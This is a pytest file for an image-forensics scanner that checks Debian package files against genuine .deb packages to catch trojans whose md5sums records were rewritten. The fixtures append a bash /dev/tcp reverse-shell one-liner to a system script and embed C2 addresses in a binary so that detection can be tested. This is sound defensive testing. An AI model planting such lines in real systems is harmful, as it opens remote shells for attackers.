"""Trust: the image's package database is the maker's claim (issue 14, "a trojaned distribution
file passes clean").

A maker who trojans ``usr/bin/which.debianutils`` rewrites its md5sums line too; the scan used
to spare every file the image's own md5sums vouched for. Now such files get every content
check, and with the distribution's genuine packages (``--distro-packages``: .deb files built
here by ``dpkg-deb``, or those debootstrap fetched from deb.debian.org for the Debian tests)
each file is genuine, differs from its genuine package, or stays unverified.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from cranewatch.cli import main
from cranewatch.forensics import GenuineSource, ScanResult, scan_image
from cranewatch.forensics.genuine import fetch_packages, load_index, read_deb
from cranewatch.forensics.packages import Package
from cranewatch.model import Severity
from forensics_helpers import copy_tree, rootfs

WHICH = "#!/bin/sh\nset -ef\n# which - locate a command (trimmed)\nfor p in $(echo \"$PATH\" | tr : ' '); do\n  [ -x \"$p/$1\" ] && echo \"$p/$1\"\ndone\n"
TROJAN_LINE = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1 &\n"
C2 = b"\x00c2=198.51.100.77:8443\x00https://c2.cranevendor-diag.com/beacon\x00"
VERSION = "5.7-0.5~deb12u1"


def _md5(data: bytes) -> str:
    return hashlib.md5(data, usedforsecurity=False).hexdigest()


def _elf() -> bytes:
    return Path(shutil.which("true") or "/usr/bin/true").resolve().read_bytes()


def _build_deb(out_dir: Path, files: dict[str, bytes]) -> Path:
    """A genuine package made by dpkg-deb: debianutils with ``files``."""
    build = out_dir / "build"
    (build / "DEBIAN").mkdir(parents=True)
    (build / "DEBIAN/control").write_text(
        f"Package: debianutils\nVersion: {VERSION}\nArchitecture: amd64\n"
        "Maintainer: Gioele Barabucci <gioele@debian.org>\nDescription: Miscellaneous utilities\n"
    )
    for path, data in files.items():
        dest = build / path
        dest.parent.mkdir(parents=True, exist_ok=True)
        dest.write_bytes(data)
        dest.chmod(0o755)
    deb = out_dir / f"debianutils_{VERSION}_amd64.deb"
    subprocess.run(["dpkg-deb", "--root-owner-group", "-Zxz", "--build", str(build), str(deb)], check=True, capture_output=True)
    shutil.rmtree(build)
    return deb


def _image(root: Path, files: dict[str, bytes]) -> Path:
    """A tiny Debian-like image whose dpkg database vouches for ``files`` as they are."""
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (root / "var/lib/dpkg/status").write_text(
        f"Package: debianutils\nStatus: install ok installed\nVersion: {VERSION}\nArchitecture: amd64\n"
        "Maintainer: Gioele Barabucci <gioele@debian.org>\n\n"
    )
    (info / "debianutils.list").write_text("".join(f"/{p}\n" for p in files))
    (info / "debianutils.md5sums").write_text("".join(f"{_md5(d)}  {p}\n" for p, d in files.items()))
    for path, data in files.items():
        dest = root / path
        dest.parent.mkdir(parents=True, exist_ok=True)
        dest.write_bytes(data)
        dest.chmod(0o755)
    (root / "etc").mkdir(exist_ok=True)
    (root / "etc/hostname").write_text("cms\n")
    return root


@pytest.fixture(autouse=True)
def _private_index_cache(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> None:
    cache = tmp_path_factory.getbasetemp() / "cranewatch-cache"
    monkeypatch.setattr("cranewatch.forensics.genuine._cache_root", lambda: cache)  # never the user's ~/.cache


GENUINE = {"usr/bin/which.debianutils": WHICH.encode(), "usr/bin/ischroot": b""}


@pytest.fixture
def genuine_dir(tmp_path: Path) -> Path:
    debs = tmp_path / "debs"
    debs.mkdir()
    _build_deb(debs, {**GENUINE, "usr/bin/ischroot": _elf()})
    return debs


@pytest.fixture
def trojaned(tmp_path: Path) -> Path:
    # The trojans *with* md5sums lines rewritten to match: the image vouches for them.
    return _image(tmp_path / "image", {
        "usr/bin/which.debianutils": (WHICH + TROJAN_LINE).encode(), "usr/bin/ischroot": _elf() + C2,
    })


def _rules(result: ScanResult) -> dict[tuple[str, str], Severity]:
    return {(f.rule, f.evidence[0].path or ""): f.severity for f in result.findings}


def test_trojans_with_rewritten_md5sums_get_every_content_check(trojaned: Path) -> None:
    found = _rules(scan_image(trojaned, workers=1))
    # The script: the reverse-shell rule and its address (before: no finding at all). The
    # address is listed with the package's other endpoints, low, until the package is verified.
    assert found[("yara.reverse_shell_oneliner", "usr/bin/which.debianutils")] == Severity.CRITICAL
    assert found[("endpoint.in-package-file", "usr/bin/which.debianutils")] == Severity.LOW
    # The ELF: data past the end its own headers give, and the C2 addresses in it.
    assert found[("integrity.elf-appended-data", "usr/bin/ischroot")] == Severity.HIGH
    assert found[("endpoint.binary-public", "usr/bin/ischroot")] == Severity.HIGH


def test_genuine_packages_expose_the_trojans_and_the_rewritten_records(trojaned: Path, genuine_dir: Path) -> None:
    result = scan_image(trojaned, workers=1, genuine=GenuineSource((str(genuine_dir),)))
    found = _rules(result)
    assert found[("integrity.differs-from-genuine", "usr/bin/which.debianutils")] == Severity.CRITICAL
    assert found[("integrity.differs-from-genuine", "usr/bin/ischroot")] == Severity.CRITICAL
    rewritten = [f for f in result.findings if f.rule == "integrity.package-records-rewritten"]
    assert [(f.evidence[0].path, f.severity) for f in rewritten] == [("var/lib/dpkg/info/debianutils.md5sums", Severity.HIGH)]
    assert rewritten[0].evidence[0].values["files"] == ["usr/bin/ischroot", "usr/bin/which.debianutils"]
    assert result.inventory.trust == {"differs": 2, "unowned": 4}


def test_a_genuine_file_is_verified_and_spared(tmp_path: Path, genuine_dir: Path) -> None:
    image = _image(tmp_path / "image", {**GENUINE, "usr/bin/ischroot": _elf()})
    result = scan_image(image, workers=1, genuine=GenuineSource((str(genuine_dir),)))
    assert result.findings == ()
    assert result.inventory.trust == {"genuine": 2, "unowned": 4}
    assert any("2 of 2 package files genuine, 0 differ, 0 unverified" in w for w in result.warnings)
    without = scan_image(image, workers=1)
    assert without.inventory.trust == {"unverified": 2, "unowned": 4}
    assert any("none is verified, so every one got every content check" in w for w in without.warnings)


def test_read_deb_hashes_what_dpkg_deb_packed(genuine_dir: Path) -> None:
    deb = next(genuine_dir.glob("*.deb"))
    package = read_deb(deb)
    assert (package.name, package.version, package.arch) == ("debianutils", VERSION, "amd64")
    listed = subprocess.run(["dpkg-deb", "--fsys-tarfile", str(deb)], capture_output=True, check=True).stdout
    assert package.files["usr/bin/which.debianutils"] == _md5(WHICH.encode())
    assert package.files["usr/bin/ischroot"] == _md5(_elf())
    assert len(listed) > len(_elf())


def test_cli_distro_packages_and_json_trust(trojaned: Path, genuine_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "scan.jsonl"
    assert main(["scan-image", str(trojaned), "--distro-packages", str(genuine_dir), "--format", "jsonl", "--out", str(out)]) == 0
    header = json.loads(out.read_text().splitlines()[0])
    assert header["inventory"]["trust"] == {"differs": 2, "unowned": 4}
    assert header["inventory"]["genuine_sources"] == [str(genuine_dir)]


def test_unreadable_package_file_is_a_warning_not_a_failure(trojaned: Path, genuine_dir: Path) -> None:
    (genuine_dir / "broken_1.0_all.deb").write_bytes(b"!<arch>\nnot really")
    result = scan_image(trojaned, workers=1, genuine=GenuineSource((str(genuine_dir),)))
    assert any("broken_1.0_all.deb" in w for w in result.warnings)
    assert ("integrity.differs-from-genuine", "usr/bin/ischroot") in _rules(result)


# --- a real Debian (debootstrap minbase; its .deb files come from deb.debian.org) ---------------


def _debs(tree: Path) -> Path:
    debs = tree.parent / "debs"
    if not any(debs.glob("*.deb")):
        pytest.fail(f"the genuine packages debootstrap fetched are missing from {debs}")
    return debs


def _trojan_debian(tree: Path) -> None:
    which = tree / "usr/bin/which.debianutils"
    with open(which, "a") as fh:
        fh.write(TROJAN_LINE)
    dirname = tree / "usr/bin/dirname"
    with open(dirname, "ab") as fh:
        fh.write(C2)
    for package, path, target in (("debianutils", "usr/bin/which.debianutils", which), ("coreutils", "usr/bin/dirname", dirname)):
        sums = tree / f"var/lib/dpkg/info/{package}.md5sums"
        lines = sums.read_text().splitlines()
        fixed = [f"{_md5(target.read_bytes())}  {path}" if line.endswith(f"  {path}") else line for line in lines]
        assert fixed != lines
        sums.write_text("\n".join(fixed) + "\n")


@pytest.mark.slow
def test_debian_clean_and_trojaned_with_and_without_genuine_packages(tmp_path: Path) -> None:
    clean = rootfs()
    debs = _debs(clean)
    genuine = GenuineSource((str(debs),))
    plain = scan_image(clean)
    assert [f.to_json() for f in plain.findings if f.severity >= Severity.HIGH] == []
    assert len([f for f in plain.findings if f.rule.startswith("endpoint.")]) <= 3  # no flood
    verified = scan_image(clean, genuine=genuine)
    assert [f.to_json() for f in verified.findings if f.severity >= Severity.MEDIUM and f.evidence[0].path != "etc/resolv.conf"] == []
    trust = verified.inventory.trust
    assert trust["genuine"] > 4000 and trust.get("differs", 0) == 0 and trust.get("unverified", 0) < 10

    tree = copy_tree(clean, tmp_path / "trojaned")
    _trojan_debian(tree)
    found = _rules(scan_image(tree))
    assert found[("yara.reverse_shell_oneliner", "usr/bin/which.debianutils")] == Severity.CRITICAL
    assert found[("integrity.elf-appended-data", "usr/bin/dirname")] == Severity.HIGH
    assert found[("endpoint.binary-public", "usr/bin/dirname")] == Severity.HIGH
    against = _rules(scan_image(tree, genuine=genuine))
    assert against[("integrity.differs-from-genuine", "usr/bin/which.debianutils")] == Severity.CRITICAL
    assert against[("integrity.differs-from-genuine", "usr/bin/dirname")] == Severity.CRITICAL
    assert against[("integrity.package-records-rewritten", "var/lib/dpkg/info/coreutils.md5sums")] == Severity.HIGH
    assert against[("integrity.package-records-rewritten", "var/lib/dpkg/info/debianutils.md5sums")] == Severity.HIGH


@pytest.mark.slow
def test_fetch_packages_downloads_the_installed_version_with_apt(tmp_path: Path) -> None:
    if shutil.which("apt-get") is None:
        pytest.skip("apt-get is not available")
    version = subprocess.run(["dpkg-query", "-W", "-f=${Version}", "debianutils"], capture_output=True, text=True, check=False).stdout
    if not version:
        pytest.skip("debianutils is not installed on this machine")
    arch = subprocess.run(["dpkg", "--print-architecture"], capture_output=True, text=True, check=True).stdout.strip()
    present, failed = fetch_packages([Package("dpkg", "debianutils", version, arch=arch)], tmp_path)
    if failed:
        pytest.skip(f"apt could not download debianutils={version} (no network or no apt lists)")
    assert present == [f"debianutils_{version.replace(':', '%3a')}_{arch}.deb"]
    index = load_index([tmp_path], cache=False)
    assert index.packages["debianutils"][0].version == version


@pytest.mark.slow
def test_archive_serves_the_genuine_packages_in_debian_pool_layout(tmp_path: Path) -> None:
    """``--archive URL``: the installed versions fetched from a Debian-layout archive (served
    here on loopback from the .debs debootstrap fetched, laid out by their own control fields
    read with dpkg-deb) verify the tree exactly as the same .debs given as a folder."""
    import functools
    import http.server
    import threading

    clean = rootfs()
    debs = _debs(clean)
    root = tmp_path / "mirror"
    for deb in sorted(debs.glob("*.deb")):
        fields = subprocess.run(["dpkg-deb", "-f", str(deb), "Package", "Version", "Architecture", "Source"],
                                capture_output=True, text=True, check=True).stdout
        info = dict(line.split(": ", 1) for line in fields.splitlines() if ": " in line)
        source = info.get("Source", info["Package"]).split(" ")[0]
        prefix = source[:4] if source.startswith("lib") else source[0]
        version = info["Version"].split(":", 1)[-1]
        target = root / "debian/pool/main" / prefix / source / f"{info['Package']}_{version}_{info['Architecture']}.deb"
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(deb, target)
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            return None

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0),
                                             functools.partial(Quiet, directory=str(root)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/debian"
        fetched = scan_image(clean, genuine=GenuineSource(fetch=True, cache=tmp_path / "cache", archive=url))
        given = scan_image(clean, genuine=GenuineSource((str(debs),)))
        assert fetched.inventory.trust == given.inventory.trust
        assert fetched.inventory.trust["genuine"] > 4000
        assert not [w for w in fetched.warnings if "could not provide" in w]
        # a package the archive lacks stays unverified, and says so
        gone = next((root / "debian/pool/main/d/debianutils").glob("*.deb"))
        gone.unlink()
        again = scan_image(clean, genuine=GenuineSource(fetch=True, cache=tmp_path / "cache2", archive=url))
        assert any(w.startswith(f"{url} could not provide 1 ") and "debianutils=" in w for w in again.warnings)
        assert again.inventory.trust["unverified"] > 0
    finally:
        server.shutdown()
        server.server_close()
